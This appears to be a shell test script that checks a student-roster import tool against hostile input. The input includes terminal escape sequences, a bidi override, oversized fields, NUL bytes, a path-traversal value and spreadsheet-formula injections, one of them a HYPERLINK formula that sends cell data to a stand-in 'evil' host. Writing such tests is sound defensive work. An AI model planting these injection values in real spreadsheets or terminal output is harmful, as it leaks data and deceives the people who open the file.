# SPDX-License-Identifier: MIT
# Hostile input: terminal escapes, bidi controls, 10,000-character fields,
# spreadsheet formulas, path characters in seq, NUL bytes, a database that is
# not SQLite, one from a newer caiji, one that is read-only.  Each gets a
# clear error or is shown inert, and nothing is lost.
. "$testlib"
need sqlite3
expect_rc 0 init --institution-code 19999 --institution-name 示范学院
ESC=$(printf '\033')
RLO=$(printf '\342\200\256')	# U+202E right-to-left override
long=$(awk 'BEGIN { for (i = 0; i < 10000; i++) printf "长" }')
{
	echo "拍摄序号,学号,姓名,性别,身份证号,院校代码,学校名称,专业,层次"
	printf '1001,H001,%s[2J%s]0;pwned\a张三,男,11010519491231001X,19999,示范学院,专业,专科\n' "$ESC" "$ESC"
	printf '1002,H002,李%s四,女,110105194912310021,19999,示范学院,专业,专科\n' "$RLO"
	printf '1003,H003,%s,男,110105194912310037,19999,示范学院,%s,专科\n' "$long" "$long"
	printf '1004,H004,"=HYPERLINK(""http://evil/""&A1)",女,110105194912310045,19999,示范学院,+SUM(1),专科\n'
	printf '../../x,H005,王五,男,110105194912310053,19999,示范学院,专业,专科\n'
	printf '1006,H006,@cmd,女,110105194912310061,19999,示范学院,-1+2,专科\n'
} > "$T/hostile.csv"
run import --cohort 2021-uncollected --college 传媒学院 "$T/hostile.csv"
[ "$rc" -le 1 ] || fail "hostile roster refused (exit $rc): $(head -c 300 "$T/err")"
[ "$(sql 'SELECT count(*) FROM students')" = 6 ] || fail "a hostile row was dropped"
# the data is kept as written (nothing lost)...
[ "$(sql "SELECT length(name) FROM students WHERE student_no = 'H003'")" = 10000 ] || fail "long name cut"
[ "$(sql "SELECT count(*) FROM students WHERE instr(name, char(27)) > 0")" = 1 ] || fail "escape not kept in the data"
# ...but never reaches a terminal raw
for fmt in text tsv; do
	run check --format $fmt
	grep -q "$ESC" "$T/out" && fail "check --format $fmt prints a raw escape"
	[ $fmt = text ] && grep -q "$RLO" "$T/out" && fail "check --format text prints a bidi override"
done
run student show H001
grep -q "$ESC" "$T/out" && fail "student show prints a raw escape"
# a seq with path characters is a SEQ_FORMAT flag, nothing more
[ "$(sql "SELECT count(*) FROM flags WHERE code = 'SEQ_FORMAT'")" -ge 1 ] || fail "../../x not flagged"
# formulas are neutralised in CSV written for people
run check --format csv
grep -q '^[^,]*,[^,]*,"*=HYPERLINK' "$T/out" && fail "check CSV starts a cell with ="
grep -Eq '(^|,)"?[=+@-][A-Za-z(0-9]' "$T/out" && fail "check CSV has a cell starting with a formula character"

# a NUL byte: the file is refused, the season unchanged
printf '学号,姓名,性别,身份证号\nN1,a\000b,男,110105194912310010\n' > "$T/nul.csv"
before=$(sql 'SELECT count(*) FROM students')
expect_rc 2 import --cohort 2021-uncollected --college 传媒学院 "$T/nul.csv"
expect_err 'NUL|nul'
[ "$(sql 'SELECT count(*) FROM students')" = "$before" ] || fail "NUL file changed the season"

# databases that cannot be used are refused with a sentence, and left alone
echo "not a database" > "$T/junk.db"
cp "$T/junk.db" "$T/junk.copy"
expect_rc 2 --db "$T/junk.db" check
expect_err 'not a caiji database'
cmp -s "$T/junk.db" "$T/junk.copy" || fail "a non-database file was changed"
cp "$CAIJI_DB" "$T/newer.db"
sqlite3 "$T/newer.db" 'PRAGMA user_version = 999'
expect_rc 2 --db "$T/newer.db" check
expect_err 'newer caiji'
# read-only: a clerk without write permission can look but not change
cp "$CAIJI_DB" "$T/ro.db"
chmod 0444 "$T/ro.db"
if [ "$(id -u)" -eq 0 ]; then
	command -v setpriv >/dev/null || skip "setpriv is needed to test as an ordinary user"
	# nobody may not enter the build tree (a clone in /root is 0700): run
	# a copy of the program from the test's own directory
	chmod 0755 "$T"
	mkdir -m 0755 "$T/bin" && cp "$CAIJI_REAL" "$T/bin/caiji" && chmod 0755 "$T/bin/caiji" ||
		{ echo "cannot copy the program for nobody" >&2; exit 99; }
	user_caiji=$T/bin/caiji
	as_user() { setpriv --reuid=nobody --regid=nogroup --clear-groups env HOME=/tmp "$@"; }
else
	user_caiji=$CAIJI_REAL
	as_user() { "$@"; }
fi
as_user "$user_caiji" --db "$T/ro.db" student set H002 name 李四 > "$T/out" 2> "$T/err"
rc=$?
[ "$rc" -eq 2 ] || fail "a write to a read-only database: exit $rc"
grep -qi 'read-only\|readonly\|permission\|只读' "$T/err" || fail "read-only error is unclear: $(head -c 200 "$T/err")"
grep -qi 'sqlite' "$T/err" && fail "a raw SQLite error reached the clerk: $(head -c 200 "$T/err")"
# ...and can still look
as_user "$user_caiji" --db "$T/ro.db" check --format tsv > "$T/out" 2> "$T/err"
[ $? -le 1 ] || fail "a read-only clerk cannot look: $(head -c 200 "$T/err")"
grep -q 'H001' "$T/out" || fail "read-only check shows nothing"
done_test
